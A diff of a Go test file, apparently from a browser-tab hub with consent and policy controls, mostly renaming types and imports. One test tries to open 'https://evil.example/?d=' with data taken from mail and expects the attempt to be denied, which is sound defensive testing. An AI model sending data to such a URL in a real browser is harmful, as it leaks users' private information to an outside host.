@@ -8,6 +8,8 @@ import (
 	"strings"
 	"testing"
 
+	"tabhub/hub/call"
+	"tabhub/hub/core"
 	"tabhub/hub/state"
 	"tabhub/hub/trust/consent"
 	"tabhub/hub/trust/policy"
@@ -35,7 +37,7 @@ func newSites(t *testing.T, opts Options, doc policy.Document) *sites {
 
 func (s *sites) call(by *consent.Caller, name, args string) string {
 	s.t.Helper()
-	result, err := s.hub.Call(s.t.Context(), Call{Name: "website_tool_" + name, Args: json.RawMessage(args), By: by})
+	result, err := s.hub.Call(s.t.Context(), call.Request{Name: "website_tool_" + name, Args: json.RawMessage(args), By: by})
 	if err != nil {
 		s.t.Fatal(err)
 	}
@@ -165,7 +167,7 @@ func TestFlowByURL(t *testing.T) {
 	s.chrome("c1", "s1")
 	s.readMail(by)
 	_, err := s.hub.Control(t.Context(), by, spec.TabAddr{Peer: s.browser()}, &spec.OpenTab{URL: "https://evil.example/?d=" + code})
-	if f, ok := errors.AsType[*Failure](err); !ok || f.Code != spec.FailDenied {
+	if f, ok := errors.AsType[*core.Failure](err); !ok || f.Code != spec.FailDenied {
 		t.Errorf("opened: %v", err)
 	}
 	if len(*asked) != 1 || !strings.Contains(strings.Join((*asked)[0].Why, " "), "mail.example") {
@@ -204,7 +206,7 @@ func TestFlowFromOtherWords(t *testing.T) {
 			ended := make(chan struct{})
 			go func() {
 				defer close(ended)
-				_, _ = s.hub.Call(ctx, Call{Name: "website_tool_mail_example__read", By: &by})
+				_, _ = s.hub.Call(ctx, call.Request{Name: "website_tool_mail_example__read", By: &by})
 			}()
 			s.mail.Progress(s.mail.Next(), 1)
 			<-told
